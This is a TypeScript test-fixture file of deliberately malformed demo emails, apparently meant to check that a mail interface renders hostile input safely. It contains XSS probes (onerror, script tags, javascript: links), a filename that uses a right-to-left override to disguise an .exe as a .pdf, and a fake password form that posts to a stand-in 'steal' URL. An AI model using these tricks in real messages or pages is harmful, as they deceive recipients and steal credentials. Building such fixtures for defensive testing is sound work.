import { pdfFile, pngFile } from './demo-files.ts';
import type { Letter } from './letter.ts';

const day = 24 * 60;

/** What real mail looks like: every one of them has broken a page somewhere. */
export const uglyLetters: readonly Letter[] = [
  {
    authorId: 'priya.raman',
    connector: 'support',
    to: ['Quality assurance <qa@hallstrom-filtration.example>'],
    subject: `FW: RE: FW: RE: Non-conformity report NC-2026-0417 / order 88410 / pallet 3 of 12 / ${'housing cracked along the lower seam, photographed at unloading, carrier informed; '.repeat(10)}please confirm`,
    text: 'See the subject line.\n\nPriya',
    packetRef: '101342-T',
    dueInMinutes: day,
    settlesAs: 'queued',
  },
  {
    authorId: 'claire.fontaine',
    connector: 'sales',
    to: ['مكتب المشتريات <procurement@almanar-trading.example>'],
    subject: 'عرض أسعار رقم 2026-88 لمرشحات الهواء HF-220',
    text: 'السلام عليكم،\n\nنرفق لكم عرض الأسعار المطلوب. العرض صالح حتى نهاية الشهر.\n\nمع أطيب التحيات،\nClaire Fontaine',
    files: [
      pdfFile('عرض أسعار 2026-88.pdf', 'Quotation 2026-88', ['12 x HF-220', 'Valid until 30 November']),
    ],
    answer: { reply: '550 5.1.1 لا يوجد مستخدم بهذا الاسم', phase: 'rcpt', times: 1 },
    settlesAs: 'failed',
  },
  {
    authorId: 'noah.whitfield',
    connector: 'sales',
    to: ['לוגיסטיקה <logistics@carmel-shipping.example>'],
    subject: 'אישור הזמנה PO-5521 (עדכון 2) – see attachment',
    text: 'שלום,\n\nמצורף אישור ההזמנה המעודכן.\n\nNoah',
    files: [
      pdfFile('PO-5521 אישור.pdf', 'Order confirmation PO-5521', ['Update 2']),
      // A right-to-left override: naively shown, this name seems to end in ".pdf".
      {
        fileName: 'invoice-\u202Efdp.exe',
        contentType: 'application/octet-stream',
        bytes: Buffer.from('MZ demo'),
      },
    ],
    answer: { reply: '451 4.3.0 <script>alert(3)</script> local error in processing', phase: 'rcpt' },
    settlesAs: 'pending_retry',
  },
  {
    authorId: 'maeve.oconnor',
    connector: 'sales',
    to: ['Team Kestrel 🦅 <team@kestrel-logistics.example>'],
    subject: '🎉 Ten years together 👩🏽‍💻👨‍👩‍👧‍👦 thank you! 🇫🇷🤝🇬🇧 ❤️‍🔥',
    text: 'Ten years 🎂 and counting. Thank you! 🙏🏽\n\nMaeve',
    packetRef: '101400-A',
    dueInMinutes: 3 * day,
    settlesAs: 'queued',
  },
  {
    authorId: 'lucas.girard',
    connector: 'support',
    to: [
      ...Array.from({ length: 37 }, (_, index) => recipient(index)),
      ...['north', 'south', 'quay'].map(closedSite),
    ],
    subject: 'Modification des horaires de livraison à partir du 1er décembre',
    text: 'Bonjour à tous,\n\nÀ partir du 1er décembre, les quais ouvrent à 6 h 30.\n\nLucas Girard',
    packetRef: '101021-C',
    answer: {
      reply: '550 5.1.1 No such user here',
      phase: 'rcpt',
      recipients: ['north', 'south', 'quay'].map(closedSite),
    },
    settlesAs: 'failed',
  },
  {
    authorId: 'amelie.roussel',
    connector: 'sales',
    to: ['Élodie Chêne <e.chene@ateliers-beaumont.example>'],
    subject: 'Tarifs <b>2027</b> & conditions "spéciales" <img src=x onerror=alert(1)>',
    text: 'Bonjour, les tarifs sont dans le tableau.',
    html: '<html><body><p>Bonjour <b>Élodie<p>les tarifs :<table border=1><tr><td>HF-220<td>118,00 €<tr><td>HF-340<td>164,00 €<tr><td colspan=9>dès <i>dix <u>pièces</i> : <font color=#b00>–8&nbsp;%</u></b><div style="position:fixed;top:0;left:0;width:100%;background:red">ceci ne doit rien couvrir<a href="javascript:alert(2)">cliquez</a><form action="https://tracker.example/steal"><input name=password><button>OK</form><p>Amélie',
    packetRef: '100987-C',
    dueInMinutes: day + 300,
    settlesAs: 'queued',
  },
  {
    authorId: 'claire.fontaine',
    connector: 'sales',
    to: ['Newsletter readers <readers@lists.meridian.example>'],
    subject: 'The Meridian letter · November',
    text: 'The Meridian letter, November: a quieter filter, a new workshop, and three dates.',
    html: newsletter(),
    files: [
      {
        ...pngFile('header.png', 600, 160, [15, 76, 92], [236, 179, 101]),
        contentId: 'header@meridian.example',
      },
    ],
    importance: 'low',
    dueInMinutes: 2 * day,
    settlesAs: 'queued',
  },
  {
    authorId: 'noah.whitfield',
    connector: 'support',
    to: [
      'purchasing.department.with.a.very.long.local.part@subsidiary-of-a-subsidiary.northgate-pharmacies.example',
    ],
    bcc: ['archive@meridian.example'],
    subject: '',
    text: '.\n..\n.\nFrom here on, lines that begin with a dot must arrive as they are.\n.',
    answer: { reply: '554 5.7.1 Message refused', phase: 'data', times: 1 },
    settlesAs: 'failed',
  },
];

function recipient(index: number): string {
  const site = ['Gand', 'Anvers', 'Bruges', 'Liège', 'Namur', 'Mons', 'Lille', 'Roubaix'][index % 8]!;
  return `Quai ${index + 1}, ${site} <quai${index + 1}@vanacker.example>`;
}

function closedSite(name: string): string {
  return `site.${name}@vanacker.example`;
}

function newsletter(): string {
  return `<!doctype html><html><head><style>h1{font:600 26px Georgia,serif;color:#0f4c5c}p{font:15px/1.6 Arial,sans-serif;color:#333}</style>
<script>document.body.innerHTML = 'A script ran';</script></head>
<body style="margin:0;background:#f3f1ec"><table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td><img src="cid:header@meridian.example" width="600" height="160" alt="Meridian"></td></tr>
<tr><td style="padding:24px 32px"><h1>A quieter filter</h1>
<p>The new HF-220 S runs at 41&nbsp;dB, a third quieter than before. Workshops in Lyon and Leeds have tried it for six months.</p>
<p><img src="https://images.newsletter.example/hf220s.jpg" width="536" height="220" alt="The HF-220 S on a test bench"></p>
<p><a href="https://www.meridian.example/hf220s" onclick="alert(1)">Read more</a></p>
<h1>Three dates</h1><p>3 December, Lyon · 10 December, Leeds · 17 December, online</p>
<img src="https://tracker.newsletter.example/open.gif?id=8841" width="1" height="1" alt="">
</td></tr></table></body></html>`;
}
